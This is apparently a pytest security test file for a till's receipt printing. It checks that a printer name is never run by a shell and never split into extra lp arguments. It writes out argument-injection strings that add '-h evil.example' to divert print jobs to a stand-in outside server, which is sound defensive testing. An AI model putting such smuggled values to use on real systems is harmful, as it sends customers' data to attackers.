import pytest
from conftest import a_cart, load

import payloads

SHELL = sorted(payloads.SHELL)


@pytest.mark.parametrize("name", SHELL)
def test_printer_name_never_runs_a_command(lp, tmp_path, monkeypatch, name):
    """A file the name's shell payload made lands under tmp_path: the working directory is there."""
    work = tmp_path / "till"
    work.mkdir()
    monkeypatch.chdir(work)
    printer = payloads.shell(name, "pwned", "Front")
    shopcart, printing = load()
    try:
        printing.print_receipt(a_cart(shopcart), printer)
    except Exception:
        pass  # refusing, or lp failing, is no danger
    made = sorted(p for p in tmp_path.rglob("pwned*"))
    assert not made, (
        f"print_receipt(cart, {printer!r}) created {made[0].relative_to(tmp_path)}: the printer name was run by "
        "a shell (command injection); pass lp a list of arguments")


# A name that closes a quote and adds its own lp options (-h sends the job to another server).
ARGUMENTS = ["x' -h 'evil.example", 'x" -h "evil.example', "x -h evil.example", "x\t-h\tevil.example"]


@pytest.mark.parametrize("printer", ARGUMENTS, ids=["single-quote", "double-quote", "spaces", "tabs"])
def test_printer_name_never_adds_lp_arguments(lp, printer):
    shopcart, printing = load()
    try:
        printing.print_receipt(a_cart(shopcart), printer)
    except Exception:
        pass  # refusing, or lp failing, is no danger
    for args, _ in lp():
        injected = [a for a in args if a != printer and "evil.example" in a]
        assert not injected, (
            f"print_receipt(cart, {printer!r}) ran lp with {args!r}: part of the printer name became an argument "
            "of its own (argument injection: another server); pass the name as one list item")
